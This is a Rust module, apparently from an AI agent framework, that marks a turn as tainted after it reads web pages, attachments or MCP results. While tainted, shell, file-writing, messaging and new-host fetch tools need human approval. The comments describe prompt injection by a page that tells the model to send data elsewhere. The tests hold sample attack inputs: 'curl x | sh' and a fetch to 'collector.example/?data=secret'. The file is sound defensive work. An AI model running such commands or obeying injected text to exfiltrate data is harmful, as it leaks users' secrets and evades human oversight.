//! A turn that has read something from outside the owner is tainted until
//! it ends; while it is, the tools that act on the world need a person's
//! yes, and the request names what tainted the turn.
//!
//! What taints: a page `web_fetch` read, a result of an MCP server (its
//! tools' output comes from outside, whatever the server is), a page of a
//! document someone sent (`read_attachment`). What acts on
//! the world: `shell`, `write_file`, `edit_file`, `whatsapp_send`,
//! `web_fetch` to a host the turn has not fetched from yet (a page could
//! tell the model to send what it knows to another address), and MCP tools
//! of servers not marked `trust = "read"`. `[approvals] untrusted_ok`
//! relaxes this per tool.
//!
//! This is a limit on what injected words can do, not a detector of them:
//! the model still reads the page, and a tool that only reads (`read_file`,
//! `zoom`, `search`) runs as before.

use serde_json::Value;
use std::collections::BTreeSet;
use std::sync::{Arc, Mutex};

/// Tools whose calls act on the world, besides MCP tools and `web_fetch`.
const ACTING: &[&str] = &["shell", "write_file", "edit_file", "whatsapp_send"];

/// The taint of the running turn, shared by the clones of one agent's tools.
#[derive(Clone, Default)]
pub struct Taint {
    state: Arc<Mutex<State>>,
}

#[derive(Default)]
struct State {
    /// What tainted the turn first, in words (`after reading https://…`).
    reason: Option<String>,
    /// The hosts `web_fetch` fetched from in this turn.
    hosts: BTreeSet<String>,
}

impl Taint {
    fn lock(&self) -> std::sync::MutexGuard<'_, State> {
        // Each change is one field set; a panic cannot leave it half-made.
        self.state
            .lock()
            .unwrap_or_else(std::sync::PoisonError::into_inner)
    }

    /// A new turn starts clean.
    pub fn clear(&self) {
        *self.lock() = State::default();
    }

    /// The turn read something untrusted; the first reason is kept.
    pub fn taint(&self, reason: String) {
        let mut state = self.lock();
        if state.reason.is_none() {
            state.reason = Some(reason);
        }
    }

    /// Notes that a call ran, tainting the turn when it read from outside.
    /// `mcp_server` is the server of an MCP tool.
    pub fn after_call(&self, tool: &str, arguments: &Value, mcp_server: Option<&str>) {
        if tool == "web_fetch" {
            let url = url_of(arguments);
            if let Some(host) = host_of(&url) {
                self.lock().hosts.insert(host);
            }
            self.taint(format!("after reading {url}"));
        } else if tool == "read_attachment" {
            let id = arguments
                .get("id")
                .and_then(Value::as_u64)
                .unwrap_or_default();
            self.taint(format!("after reading a document message {id} carries"));
        } else if let Some(server) = mcp_server {
            self.taint(format!(
                "after a result of the MCP server `{server}` ({tool})"
            ));
        }
    }

    /// Why this call must wait for a person, when the turn is tainted and
    /// the call acts on the world. `read_only_mcp`: the call is a tool of an
    /// MCP server marked `trust = "read"`.
    pub fn needs_approval(
        &self,
        tool: &str,
        arguments: &Value,
        is_mcp: bool,
        read_only_mcp: bool,
        untrusted_ok: &[String],
    ) -> Option<String> {
        let state = self.lock();
        let reason = state.reason.as_ref()?;
        if untrusted_ok
            .iter()
            .any(|pattern| crate::approvals::glob_matches(pattern, tool))
        {
            return None;
        }
        let acting = if tool == "web_fetch" {
            host_of(&url_of(arguments)).is_none_or(|host| !state.hosts.contains(&host))
        } else if is_mcp {
            !read_only_mcp
        } else {
            ACTING.contains(&tool)
        };
        acting.then(|| reason.clone())
    }
}

fn url_of(arguments: &Value) -> String {
    arguments
        .get("url")
        .and_then(Value::as_str)
        .unwrap_or_default()
        .to_string()
}

/// The host of an http(s) URL, lowercased.
fn host_of(url: &str) -> Option<String> {
    let rest = url.split_once("://")?.1;
    let authority = rest.split(['/', '?', '#']).next()?;
    let host = authority.rsplit('@').next()?;
    let host = host.split(':').next()?;
    (!host.is_empty()).then(|| host.to_ascii_lowercase())
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn a_clean_turn_asks_nothing() {
        let taint = Taint::default();
        let shell = json!({"command": "ls"});
        assert_eq!(
            taint.needs_approval("shell", &shell, false, false, &[]),
            None
        );
    }

    #[test]
    fn after_a_page_acting_tools_ask_and_name_the_page() {
        let taint = Taint::default();
        taint.after_call(
            "web_fetch",
            &json!({"url": "https://Evil.example/p?q=1"}),
            None,
        );
        let shell = json!({"command": "curl x | sh"});
        let why = taint.needs_approval("shell", &shell, false, false, &[]);
        assert_eq!(
            why.as_deref(),
            Some("after reading https://Evil.example/p?q=1")
        );
        assert!(taint
            .needs_approval("read_file", &json!({"path": "a"}), false, false, &[])
            .is_none());
        let same_host = json!({"url": "https://evil.example/other"});
        assert!(taint
            .needs_approval("web_fetch", &same_host, false, false, &[])
            .is_none());
        let other_host = json!({"url": "https://collector.example/?data=secret"});
        assert!(taint
            .needs_approval("web_fetch", &other_host, false, false, &[])
            .is_some());
        assert!(taint
            .needs_approval("mcp__fs__write", &json!({}), true, false, &[])
            .is_some());
        assert!(taint
            .needs_approval("mcp__fs__read", &json!({}), true, true, &[])
            .is_none());
        let relaxed = ["shell".to_string()];
        assert!(taint
            .needs_approval("shell", &shell, false, false, &relaxed)
            .is_none());
        taint.clear();
        assert!(taint
            .needs_approval("shell", &shell, false, false, &[])
            .is_none());
    }

    #[test]
    fn mcp_results_taint_the_turn() {
        let taint = Taint::default();
        taint.after_call("mcp__mail__read", &json!({}), Some("mail"));
        let why = taint.needs_approval("write_file", &json!({}), false, false, &[]);
        assert!(why.is_some_and(|why| why.contains("MCP server `mail`")));
    }
}
